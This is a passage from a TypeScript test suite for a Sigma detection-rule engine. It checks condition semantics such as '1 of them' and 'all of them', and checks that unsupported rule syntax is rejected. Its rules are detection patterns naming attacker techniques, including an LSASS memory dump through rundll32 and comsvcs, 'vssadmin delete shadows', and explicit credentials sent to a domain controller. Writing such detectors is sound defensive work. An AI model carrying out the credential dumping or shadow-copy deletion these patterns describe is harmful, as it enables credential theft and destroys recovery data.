          Image|endswith: '\powershell.exe'
        _helper_pwsh:
          OriginalFileName: 'PowerShell.EXE'
        condition: 1 of *_pwsh
    `,
    match: [processCreation({ Image: raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe` })],
    // Only `_helper_pwsh` holds.
    miss: [processCreation({ Image: raw`C:\Users\Public\p.exe`, OriginalFileName: "PowerShell.EXE" })],
  });

  const THEM = raw`
      title: Explicit credentials to a domain controller
      logsource: { product: windows, service: security }
      detection:
        sel_event:
          EventID: 4648
        sel_target:
          TargetServerName|startswith: 'DC'
        _helper_localhost:
          TargetServerName: 'localhost'
        condition: CONDITION
    `;
  const explicit = (target: string): FieldView =>
    securityEvent(4648, { SubjectUserName: "jdoe", TargetUserName: "adm_jdoe", TargetServerName: target });

  conformance("1 of them: any identifier not starting with _", {
    rule: THEM.replace("CONDITION", "1 of them"),
    match: [explicit("DC01.corp.example"), securityEvent(4624, { TargetServerName: "DC02" })],
    // Only `_helper_localhost` could hold, and `them` leaves it out.
    miss: [windowsEvent(security(4625), {}, { TargetServerName: "localhost" })],
  });

  conformance("all of them: every identifier not starting with _", {
    rule: THEM.replace("CONDITION", "all of them"),
    // `_helper_localhost` does not hold, and `them` leaves it out.
    match: [explicit("DC01.corp.example")],
    miss: [explicit("SRV01.corp.example"), securityEvent(4624, { TargetServerName: "DC01" })],
  });

  conformance("a list of conditions is their OR", {
    rule: raw`
      title: LSASS dump, either form
      logsource: { product: windows, category: process_creation }
      detection:${SEARCHES}
        condition:
          - sel_img and sel_comsvcs
          - sel_minidump and not filter_backup
    `,
    match: [holding("sel_img", "sel_comsvcs"), holding("sel_minidump")],
    miss: [holding("sel_img"), holding("sel_minidump", "filter_backup"), holding("sel_comsvcs")],
  });
});

// ---- rules that must not run ----

describe("invalid or unsupported rules are rejected, never run", () => {
  const detection = (body: string): string => raw`
      title: Rejected rule
      logsource: { product: windows, category: process_creation }
      detection:${body}
    `;

  rejected(
    "M §Generic: all on a single value is not allowed",
    detection(raw`
        selection:
          CommandLine|contains|all: 'vssadmin delete shadows'
        condition: selection`),
    /all/,
  );

  rejected(
    "R §Condition: only 1 of and all of quantify identifiers",
    detection(raw`
        sel_a:
          Image|endswith: '\rundll32.exe'
        sel_b:
          CommandLine|contains: 'comsvcs'
        condition: 2 of sel_*`),
    /2 of/,
  );

  rejected(
    "R §Condition: a condition naming no search identifier",
    detection(raw`
        selection:
          Image|endswith: '\rundll32.exe'
        condition: selection and filter`),
    /filter/,
  );

  rejected(
    "C §Expression of Relationships: the Sigma 1 aggregation syntax is obsolete",
    detection(raw`
        selection:
          Image|endswith: '\rundll32.exe'
        condition: selection | count() by Computer > 5`),
    /aggregation/,
  );

  rejected(
    "R §Value Modifiers: a modifier the engine does not know",
    detection(raw`
        selection:
          CommandLine|contains|base32: 'whoami'
        condition: selection`),
    /base32/,
  );
});

// ---- the specification's schema examples (../shared) ----

const SCHEMA_RULES = fileURLToPath(new URL("../../../shared/sigma-spec/tests/schema/rules/", import.meta.url));
const NO_SPEC = existsSync(SCHEMA_RULES)
  ? false
  : `Sigma specification absent: ${SCHEMA_RULES} does not exist (CI has ../shared beside the project)`;

test("every schema example rule of the specification loads; rule_1.yml runs", { skip: NO_SPEC }, () => {
  const files = readdirSync(SCHEMA_RULES).filter((f) => /\.ya?ml$/.test(f));
  assert.ok(files.length > 0);
  for (const file of files) {
    const rules = loadDetectionRules(readFileSync(join(SCHEMA_RULES, file), "utf8"), file);
    assert.equal(rules.length, 1, file);
  }
  // rule_1.yml: product windows, service application, Provider_Name 'Application Error'.
  const rules = loadDetectionRules(readFileSync(join(SCHEMA_RULES, "rule_1.yml"), "utf8"), "rule_1.yml");
  for (const evaluator of [new ReferenceEvaluator(rules), new CompiledMatcher(rules)]) {
    assert.equal(evaluator.match(applicationCrash()).length, 1, evaluator.constructor.name);
    const hang = applicationCrash({ "System.Provider.Name": "Application Hang" });
    assert.equal(evaluator.match(hang).length, 0, evaluator.constructor.name);
  }
});
